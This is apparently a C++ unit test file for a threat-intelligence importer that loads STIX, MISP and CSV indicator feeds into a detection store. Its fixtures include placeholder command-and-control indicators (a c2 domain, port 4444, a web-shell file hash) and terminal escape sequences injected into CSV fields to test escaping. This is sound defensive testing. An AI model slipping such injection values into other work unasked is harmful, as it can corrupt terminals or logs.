  auto bad =
      ImportStix(R"({"type": "bundle", "objects": [{"type": "indic)", "t.json", kNow, &store);
  ASSERT_FALSE(bad.ok());
  EXPECT_NE(bad.status().message().find("t.json:1:"), std::string::npos) << bad.status().message();
  EXPECT_NE(bad.status().message().find("invalid JSON (byte"), std::string::npos)
      << bad.status().message();
  // A person looks for a line and column: the second line's broken value.
  auto second = ImportStix("{\"type\": \"bundle\",\n  \"objects\": [tru]}", "t.json", kNow, &store);
  ASSERT_FALSE(second.ok());
  EXPECT_EQ(second.status().message().rfind("t.json:2:18: invalid JSON", 0), 0u)
      << second.status().message();
}

// Common forms that are still single comparisons joined by OR: a network given by ISSUBSET,
// and parentheses around observations or comparisons.
TEST(IocImportTest, StixIsSubsetAndParentheses) {
  auto import = [](std::string_view pattern, IocStore* store) {
    std::string bundle = R"({"type": "bundle", "id": "bundle--1", "objects": [
        {"type": "indicator", "id": "indicator--1", "pattern_type": "stix", "pattern": ")" +
                         std::string(pattern) + R"("}]})";
    return ImportStix(bundle, "p.json", kNow, store);
  };
  IocStore store;
  auto subset = import("[ipv4-addr:value ISSUBSET '203.0.113.0/24']", &store);
  ASSERT_TRUE(subset.ok());
  EXPECT_EQ(subset->added, 1u);
  EXPECT_NE(store.FindIp(Ip("203.0.113.77"), kNow), nullptr);
  auto grouped = import(
      "([domain-name:value = 'a.example'] OR ([url:value = 'http://b.example/x'])) OR "
      "[(ipv6-addr:value = '2001:db8::5' OR domain-name:value = 'c.example')]",
      &store);
  ASSERT_TRUE(grouped.ok());
  EXPECT_EQ(grouped->added, 4u) << (grouped->reasons.empty() ? ""
                                                             : grouped->reasons.begin()->first);
  EXPECT_NE(store.FindDomain("a.example", kNow), nullptr);
  EXPECT_NE(store.FindDomain("c.example", kNow), nullptr);
  EXPECT_NE(store.FindIp(Ip("2001:db8::5"), kNow), nullptr);
  for (std::string_view bad :
       {"[domain-name:value ISSUBSET 'x.example']", "([ipv4-addr:value = '192.0.2.1']",
        "[(ipv4-addr:value = '192.0.2.1'])", "[ipv4-addr:value = '192.0.2.1'])"}) {
    SCOPED_TRACE(bad);
    IocStore none;
    auto r = import(bad, &none);
    ASSERT_TRUE(r.ok());
    EXPECT_EQ(r->added, 0u);
    EXPECT_EQ(r->skipped, 1u);
  }
}

TEST(IocImportTest, CsvSkipsNameTheirLineAndQuoteNoControlBytes) {
  IocStore store;
  auto r = ImportCsv("type,value\nip,192.0.2.1\nbogus\x1b[2J,x\nip,not-an-ip\nbogus\x1b[2J,y\n",
                     "f.csv", kNow, &store);
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->added, 1u);
  EXPECT_EQ(r->skipped, 3u);
  const std::string type_reason = "CSV type 'bogus\\x1b[2J' is not supported";
  ASSERT_EQ(r->reasons.count(type_reason), 1u);
  EXPECT_EQ(r->reasons.at(type_reason), 2u);
  EXPECT_EQ(r->first_line.at(type_reason), 3u);
  EXPECT_EQ(r->first_line.at("ip: not an IP address or CIDR network"), 4u);
}

TEST(IocImportTest, BinaryFilesAreRefusedAsAWhole) {
  const std::string path = ::testing::TempDir() + "/feed.bin";
  std::ofstream(path, std::ios::binary) << std::string("PK\x03\x04\0\0\x1b[2J", 10);
  IocStore store;
  auto r = ImportIocFile(path, kNow, &store);
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.status().message(), "feed.bin: binary content, not STIX 2.1, MISP JSON or CSV");
  std::remove(path.c_str());
}

// Regression: a feed saved by a Windows tool began with a UTF-8 byte-order mark, and was read as
// CSV whose first type was "\xef\xbb\xbfip" (or "\xef\xbb\xbf{..." for JSON): no indicator.
TEST(IocImportTest, ByteOrderMarkIsNotPartOfTheFeed) {
  const std::string bom = "\xEF\xBB\xBF";
  const std::string dir = ::testing::TempDir();
  std::ofstream(dir + "/bom.csv", std::ios::binary) << bom << "ip,192.0.2.7\n";
  std::ofstream(dir + "/bom.json", std::ios::binary)
      << bom << R"({"type": "bundle", "id": "bundle--1", "objects": [{"type": "indicator",
           "id": "indicator--1", "pattern_type": "stix",
           "pattern": "[ipv4-addr:value = '198.51.100.8']", "valid_from": "2026-01-01T00:00:00Z"}]})";
  IocStore store;
  auto csv = ImportIocFile(dir + "/bom.csv", kNow, &store);
  ASSERT_TRUE(csv.ok()) << csv.status().ToString();
  EXPECT_EQ(csv->added, 1u);
  auto stix = ImportIocFile(dir + "/bom.json", kNow, &store);
  ASSERT_TRUE(stix.ok()) << stix.status().ToString();
  EXPECT_EQ(stix->added, 1u);
  EXPECT_NE(store.FindIp(Ip("192.0.2.7"), kNow), nullptr);
  EXPECT_NE(store.FindIp(Ip("198.51.100.8"), kNow), nullptr);
  std::remove((dir + "/bom.csv").c_str());
  std::remove((dir + "/bom.json").c_str());
}

TEST(IocImportTest, MispEvent) {
  constexpr std::string_view kEvent = R"({"Event": {"uuid": "ev-1", "info": "EPMM campaign",
    "Attribute": [
      {"type": "ip-src", "value": "203.0.113.66", "to_ids": true},
      {"type": "ip-dst|port", "value": "198.51.100.9|4444", "to_ids": true},
      {"type": "domain", "value": "c2.example", "to_ids": false},
      {"type": "url", "value": "http://c2.example/x", "to_ids": true, "deleted": true},
      {"type": "filename|sha256", "value": "403.jsp|bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb", "to_ids": true},
      {"type": "regkey", "value": "HKLM\\x", "to_ids": true}
    ],
    "Object": [{"name": "domain-ip", "Attribute": [
      {"type": "domain", "value": "Stage.Example", "to_ids": true}],
      "Object": [{"Attribute": [{"type": "user-agent", "value": "evil-ua/1", "to_ids": true}]}]}]
  }})";
  IocStore store;
  auto r = ImportMisp(kEvent, "misp.json", kNow, &store);
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  EXPECT_EQ(r->added, 5u);
  // The regkey, and the attribute MISP marks as not for detection: counted, with its reason,
  // so that an analyst comparing with the event sees where each attribute went.
  EXPECT_EQ(r->skipped, 2u);
  EXPECT_EQ(r->reasons.count("MISP attribute not marked for detection (to_ids not true)"), 1u);
  EXPECT_NE(store.FindIp(Ip("203.0.113.66"), kNow), nullptr);
  EXPECT_NE(store.FindIp(Ip("198.51.100.9"), kNow), nullptr);
  EXPECT_EQ(store.FindDomain("c2.example", kNow), nullptr) << "to_ids false";
  EXPECT_NE(store.FindHash(std::string(64, 'b'), kNow), nullptr);
  EXPECT_NE(store.FindDomain("stage.example", kNow), nullptr);
  EXPECT_NE(store.FindUserAgent("evil-ua/1", kNow), nullptr);
  EXPECT_EQ(store.FindIp(Ip("203.0.113.66"), kNow)->source, "misp.json event ev-1");
  EXPECT_FALSE(ImportMisp(R"({"nothing": 1})", "m.json", kNow, &store).ok());
  EXPECT_FALSE(ImportMisp(R"({"Event": {"Attribute": [)", "m.json", kNow, &store).ok());
}

// What a feed says of an indicator besides its value reaches the IoC alert: MISP's threat
// level and attack-pattern tags and galaxies, STIX "indicates" relationships to attack-patterns,
// the CSV's severity and technique columns.
TEST(IocImportTest, FeedsGiveSeverityAndTechniques) {
  constexpr std::string_view kMisp = R"({"Event": {"uuid": "ev-2", "threat_level_id": "2",
    "Tag": [{"name": "misp-galaxy:mitre-attack-pattern=\"Exploit Public-Facing Application - T1190\""},
            {"name": "tlp:amber"}, {"name": "campaign:T1234-not-a-technique"},
            {"name": "campaign=\"attack-pattern T1005\""},
            {"name": "misp-galaxy:mitre-attack-pattern=\"T1059.0041 T10590 xT1190 T1098.00\""}],
    "Galaxy": [{"type": "mitre-attack-pattern", "GalaxyCluster": [
      {"value": "Unix Shell - T1059.004", "meta": {"external_id": ["T1059.004"]}}]}],
    "Attribute": [
      {"type": "ip-src", "value": "203.0.113.70", "to_ids": true,
       "Tag": [{"name": "mitre-attack:attack-pattern=\"Server Software Component: Web Shell - T1505.003\""}]},
      {"type": "domain", "value": "plain.example", "to_ids": true}]}})";
  IocStore store;
  auto misp = ImportMisp(kMisp, "misp.json", kNow, &store);
  ASSERT_TRUE(misp.ok()) << misp.status().ToString();
  const Ioc* ip = store.FindIp(Ip("203.0.113.70"), kNow);
  ASSERT_NE(ip, nullptr);
  EXPECT_EQ(ip->severity, "medium") << "threat_level_id 2";
  EXPECT_EQ(ip->attack, (std::vector<std::string>{"T1190", "T1059.004", "T1505.003"}));
  const Ioc* domain = store.FindDomain("plain.example", kNow);
  ASSERT_NE(domain, nullptr);
  EXPECT_EQ(domain->attack, (std::vector<std::string>{"T1190", "T1059.004"}))
      << "the event's techniques, not another attribute's";

  constexpr std::string_view kStix = R"({"type": "bundle", "objects": [
    {"type": "indicator", "id": "indicator--a", "pattern_type": "stix",
     "pattern": "[ipv4-addr:value = '198.51.100.40']", "valid_from": "2026-01-29T00:00:00Z"},
    {"type": "indicator", "id": "indicator--b", "pattern_type": "stix",
     "pattern": "[domain-name:value = 'untagged.example']", "valid_from": "2026-01-29T00:00:00Z"},
    {"type": "attack-pattern", "id": "attack-pattern--x", "name": "Exploit Public-Facing Application",
     "external_references": [{"source_name": "capec", "external_id": "CAPEC-1"},
                             {"source_name": "mitre-attack", "external_id": "T1190"}]},
    {"type": "attack-pattern", "id": "attack-pattern--y", "name": "Revoked link",
     "external_references": [{"source_name": "mitre-attack", "external_id": "T1005"}]},
    {"type": "relationship", "id": "relationship--1", "relationship_type": "indicates",
     "source_ref": "indicator--a", "target_ref": "attack-pattern--x"},
    {"type": "relationship", "id": "relationship--2", "relationship_type": "indicates",
     "source_ref": "indicator--a", "target_ref": "attack-pattern--y", "revoked": true},
    {"type": "relationship", "id": "relationship--3", "relationship_type": "related-to",
     "source_ref": "indicator--b", "target_ref": "attack-pattern--x"},
    {"type": "relationship", "id": "relationship--4", "relationship_type": "indicates",
     "modified": "2026-01-01T00:00:00Z", "source_ref": "indicator--b", "target_ref": "attack-pattern--y"},
    {"type": "relationship", "id": "relationship--4", "relationship_type": "indicates", "revoked": true,
     "modified": "2026-01-02T00:00:00Z", "source_ref": "indicator--b", "target_ref": "attack-pattern--y"},
    {"type": "relationship", "id": "relationship--5", "relationship_type": "indicates",
     "target_ref": "attack-pattern--x"}]})";
  auto stix = ImportStix(kStix, "stix.json", kNow, &store);
  ASSERT_TRUE(stix.ok()) << stix.status().ToString();
  const Ioc* a = store.FindIp(Ip("198.51.100.40"), kNow);
  ASSERT_NE(a, nullptr);
  EXPECT_EQ(a->severity, "high");
  EXPECT_EQ(a->attack, (std::vector<std::string>{"T1190"}));
  const Ioc* b = store.FindDomain("untagged.example", kNow);
  ASSERT_NE(b, nullptr);
  EXPECT_TRUE(b->attack.empty())
      << "only 'indicates' names what an indicator stands for, and a later revocation wins";

  // A STIX indicator's confidence gives its severity (STIX 2.1 appendix A, None/Low/Med/High);
  // one that is no integer from 0 to 100 is skipped with its reason.
  constexpr std::string_view kConfidence = R"({"type": "bundle", "objects": [
    {"type": "indicator", "id": "indicator--c85", "pattern": "[ipv4-addr:value = '198.51.100.85']", "confidence": 85},
    {"type": "indicator", "id": "indicator--c70", "pattern": "[ipv4-addr:value = '198.51.100.70']", "confidence": 70},
    {"type": "indicator", "id": "indicator--c69", "pattern": "[ipv4-addr:value = '198.51.100.69']", "confidence": 69},
    {"type": "indicator", "id": "indicator--c30", "pattern": "[ipv4-addr:value = '198.51.100.30']", "confidence": 30},
    {"type": "indicator", "id": "indicator--c29", "pattern": "[ipv4-addr:value = '198.51.100.29']", "confidence": 29},
    {"type": "indicator", "id": "indicator--c1", "pattern": "[ipv4-addr:value = '198.51.100.1']", "confidence": 1},
    {"type": "indicator", "id": "indicator--c0", "pattern": "[ipv4-addr:value = '198.51.100.2']", "confidence": 0},
    {"type": "indicator", "id": "indicator--cs", "pattern": "[ipv4-addr:value = '198.51.100.3']", "confidence": "high"},
    {"type": "indicator", "id": "indicator--cb", "pattern": "[ipv4-addr:value = '198.51.100.4']", "confidence": 101},
    {"type": "indicator", "id": "indicator--cf", "pattern": "[ipv4-addr:value = '198.51.100.5']", "confidence": 50.5}]})";
  IocStore scored;
  auto confidence = ImportStix(kConfidence, "stix-confidence.json", kNow, &scored);
  ASSERT_TRUE(confidence.ok()) << confidence.status().ToString();
  EXPECT_EQ(confidence->added, 7u);
  EXPECT_EQ(confidence->skipped, 3u);
  EXPECT_EQ(confidence->reasons["confidence is not an integer from 0 to 100"], 3u);
  for (const auto& [address, severity] :
       std::vector<std::pair<const char*, const char*>>{{"198.51.100.85", "high"},
                                                        {"198.51.100.70", "high"},
                                                        {"198.51.100.69", "medium"},
                                                        {"198.51.100.30", "medium"},
                                                        {"198.51.100.29", "low"},
                                                        {"198.51.100.1", "low"},
                                                        {"198.51.100.2", "informational"}}) {
    const Ioc* scored_ioc = scored.FindIp(Ip(address), kNow);
    ASSERT_NE(scored_ioc, nullptr) << address;
    EXPECT_EQ(scored_ioc->severity, severity) << address;
  }
  for (const char* skipped : {"198.51.100.3", "198.51.100.4", "198.51.100.5"}) {
    EXPECT_EQ(scored.FindIp(Ip(skipped), kNow), nullptr) << skipped;
  }

  // indicator_types (STIX 2.1 indicator-type-ov): a benign indicator is skipped unless it is
  // also called malicious or compromised; one only anomalous, an anonymiser or unknown alerts
  // at most at medium (and no higher than its confidence says).
  constexpr std::string_view kTypes = R"({"type": "bundle", "objects": [
    {"type": "indicator", "id": "indicator--t1", "pattern": "[ipv4-addr:value = '203.0.113.1']", "indicator_types": ["benign"]},
    {"type": "indicator", "id": "indicator--t2", "pattern": "[ipv4-addr:value = '203.0.113.2']", "indicator_types": ["benign", "compromised"]},
    {"type": "indicator", "id": "indicator--t3", "pattern": "[ipv4-addr:value = '203.0.113.3']", "indicator_types": ["anomalous-activity"]},
    {"type": "indicator", "id": "indicator--t4", "pattern": "[ipv4-addr:value = '203.0.113.4']", "indicator_types": ["anonymization", "unknown"], "confidence": 10},
    {"type": "indicator", "id": "indicator--t5", "pattern": "[ipv4-addr:value = '203.0.113.5']", "indicator_types": ["anomalous-activity", "malicious-activity"]},
    {"type": "indicator", "id": "indicator--t6", "pattern": "[ipv4-addr:value = '203.0.113.6']", "indicator_types": []},
    {"type": "indicator", "id": "indicator--t7", "pattern": "[ipv4-addr:value = '203.0.113.7']", "indicator_types": "benign"},
    {"type": "indicator", "id": "indicator--t8", "pattern": "[ipv4-addr:value = '203.0.113.8']", "indicator_types": ["benign", 3]},
    {"type": "indicator", "id": "indicator--t9", "pattern": "[ipv4-addr:value = '203.0.113.9']", "indicator_types": ["anonymization"], "confidence": 90},
    {"type": "indicator", "id": "indicator--t10", "pattern": "[ipv4-addr:value = '203.0.113.10']", "indicator_types": ["malicious-activity", "benign"], "confidence": 40},
    {"type": "indicator", "id": "indicator--t11", "pattern": "[ipv4-addr:value = '203.0.113.11']", "indicator_types": null},
    {"type": "indicator", "id": "indicator--t12", "pattern": "[ipv4-addr:value = '203.0.113.12']", "labels": ["benign"]},
    {"type": "indicator", "id": "indicator--t13", "pattern": "[ipv4-addr:value = '203.0.113.13']", "labels": ["anomalous-activity"]},
    {"type": "indicator", "id": "indicator--t14", "pattern": "[ipv4-addr:value = '203.0.113.14']", "labels": ["benign"], "spec_version": "2.1"}]})";
  IocStore typed;
  auto types = ImportStix(kTypes, "stix-types.json", kNow, &typed);
  ASSERT_TRUE(types.ok()) << types.status().ToString();
  EXPECT_EQ(types->added, 10u);
  EXPECT_EQ(types->reasons["indicator_types says benign"], 1u);
  EXPECT_EQ(types->reasons["labels says benign"], 1u) << "STIX 2.0's place for the types";
  EXPECT_EQ(types->reasons["indicator_types is not a list of strings"], 2u);
  for (const auto& [address, severity] :
       std::vector<std::pair<const char*, const char*>>{{"203.0.113.2", "high"},
                                                        {"203.0.113.3", "medium"},
                                                        {"203.0.113.4", "low"},
                                                        {"203.0.113.5", "high"},
                                                        {"203.0.113.6", "high"},
                                                        {"203.0.113.9", "medium"},
                                                        {"203.0.113.10", "medium"},
                                                        {"203.0.113.11", "high"},
                                                        {"203.0.113.13", "medium"},
                                                        {"203.0.113.14", "high"}}) {
    const Ioc* typed_ioc = typed.FindIp(Ip(address), kNow);
    ASSERT_NE(typed_ioc, nullptr) << address;
    EXPECT_EQ(typed_ioc->severity, severity) << address;
  }
  for (const char* skipped : {"203.0.113.1", "203.0.113.7", "203.0.113.8", "203.0.113.12"}) {
    EXPECT_EQ(typed.FindIp(Ip(skipped), kNow), nullptr) << skipped;
  }

  constexpr std::string_view kCsv =
      "type,value,source,expiry,severity,attack\n"
      "ip,192.0.2.50,cert-eu,,Critical,t1190;T1059.004\n"
      "ip,192.0.2.51,cert-eu,,urgent,\n"
      "ip,192.0.2.52,cert-eu,,,T19\n"
      "ip,192.0.2.53\n";
  auto csv = ImportCsv(kCsv, "list.csv", kNow, &store);
  ASSERT_TRUE(csv.ok());
  EXPECT_EQ(csv->added, 2u);
  EXPECT_EQ(csv->skipped, 2u);
  const Ioc* c = store.FindIp(Ip("192.0.2.50"), kNow);
  ASSERT_NE(c, nullptr);
  EXPECT_EQ(c->severity, "critical");
  EXPECT_EQ(c->attack, (std::vector<std::string>{"T1190", "T1059.004"}));
  EXPECT_EQ(store.FindIp(Ip("192.0.2.51"), kNow), nullptr) << "an unknown severity is refused";
  EXPECT_EQ(store.FindIp(Ip("192.0.2.52"), kNow), nullptr) << "so is a malformed technique";
  ASSERT_NE(store.FindIp(Ip("192.0.2.53"), kNow), nullptr);
  EXPECT_EQ(store.FindIp(Ip("192.0.2.53"), kNow)->severity, "high");
  ASSERT_EQ(csv->first_line.size(), 2u);
  // Without a header naming them, columns after the expiry are what they always were: ignored.
  auto plain = ImportCsv("ip,192.0.2.60,feed,,80,see ticket 12\n", "old.csv", kNow, &store);
  ASSERT_TRUE(plain.ok());
  EXPECT_EQ(plain->added, 1u);
  ASSERT_NE(store.FindIp(Ip("192.0.2.60"), kNow), nullptr);
  EXPECT_EQ(store.FindIp(Ip("192.0.2.60"), kNow)->severity, "high");

  // One indicator in two feeds: the worse severity, every technique.
  ASSERT_TRUE(store.Add(IocType::kIp, "192.0.2.50", "other", 0, {"low", {"T1005"}}).ok());
  EXPECT_EQ(c->severity, "critical");
  EXPECT_EQ(c->attack, (std::vector<std::string>{"T1190", "T1059.004", "T1005"}));
  ASSERT_TRUE(store.Add(IocType::kIp, "192.0.2.53", "other", 0, {"critical", {}}).ok());
  ASSERT_NE(store.FindIp(Ip("192.0.2.53"), kNow), nullptr);
  EXPECT_EQ(store.FindIp(Ip("192.0.2.53"), kNow)->severity, "critical");
}

TEST(IocImportTest, Csv) {
  constexpr std::string_view kCsv =
      "type,value,source,expiry\n"
      "# comment\n"
      "ip,192.0.2.0/28,cert-eu,2027-01-01T00:00:00Z\n"
      "domain,bad.example,,\n"
      "user-agent,\"Mozilla/5.0 (compatible, \"\"x\"\")\",ua-feed,\n"
      "ip,192.0.2.99,old,1000\n"
      "mutex,abc\n"
      "sha1,zzz\n";
  IocStore store;
  auto r = ImportCsv(kCsv, "list.csv", kNow, &store);
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->added, 3u);
  EXPECT_EQ(r->skipped, 3u);
  const Ioc* net = store.FindIp(Ip("192.0.2.5"), kNow);
  ASSERT_NE(net, nullptr);
  EXPECT_EQ(net->source, "cert-eu");
  EXPECT_EQ(net->expires_millis, 1798761600000);
  EXPECT_EQ(store.FindDomain("bad.example", kNow)->source, "list.csv");
  EXPECT_NE(store.FindUserAgent("Mozilla/5.0 (compatible, \"x\")", kNow), nullptr);
  EXPECT_EQ(store.FindIp(Ip("192.0.2.99"), kNow), nullptr);
}

// A bare date holds through that day (UTC); other shapes near it are refused, not "never".
TEST(IocImportTest, CsvExpiryAsABareDate) {
  constexpr std::string_view kCsv =
      "ip,192.0.2.1,a,2027-01-01\n"
      "ip,192.0.2.2,b,2027-1-01\n"
      "ip,192.0.2.3,c,2027-01-01T\n"
      "ip,192.0.2.4,d,27-01-2027\n";
  IocStore store;
  auto r = ImportCsv(kCsv, "list.csv", kNow, &store);
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->added, 1u);
  EXPECT_EQ(r->skipped, 3u);
  const Ioc* ip = store.FindIp(Ip("192.0.2.1"), kNow);
  ASSERT_NE(ip, nullptr);
  EXPECT_EQ(ip->expires_millis, 1798761600000 + 86400000);
  EXPECT_NE(store.FindIp(Ip("192.0.2.1"), 1798761600000 + 86399999), nullptr);
  EXPECT_EQ(store.FindIp(Ip("192.0.2.1"), 1798761600000 + 86400000), nullptr);
  EXPECT_EQ(store.FindIp(Ip("192.0.2.2"), kNow), nullptr);
}

TEST(IocImportTest, HundredThousandIocsLoadAndLookUp) {
  std::string csv;
  for (int i = 0; i < 100000; ++i) {
    switch (i % 4) {
      case 0:
        csv += "ip,10." + std::to_string(i >> 16 & 255) + "." + std::to_string(i >> 8 & 255) + "." +
               std::to_string(i & 255) + "\n";
        break;
      case 1:
        csv += "ip,2001:db8:" + std::to_string(i % 9000) + "::/64\n";
        break;
      case 2:
        csv += "domain,host" + std::to_string(i) + ".bad.example\n";
        break;
      case 3:
        csv += "url,http://u" + std::to_string(i) + ".example/p\n";
        break;
    }
  }
  IocStore store;
  auto start = std::chrono::steady_clock::now();
  auto r = ImportCsv(csv, "big.csv", kNow, &store);
  double secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->added, 100000u);
  std::cout << "imported 100000 IoCs in " << secs << " s\n";
  EXPECT_NE(store.FindIp(Ip("10.0.1.4"), kNow), nullptr);
  EXPECT_NE(store.FindIp(Ip("2001:db8:5::1"), kNow), nullptr);
  EXPECT_NE(store.FindDomain("www.host6.bad.example", kNow), nullptr);
  EXPECT_EQ(store.FindDomain("host7.bad.example", kNow), nullptr);
}

}  // namespace
}  // namespace rampart::detect
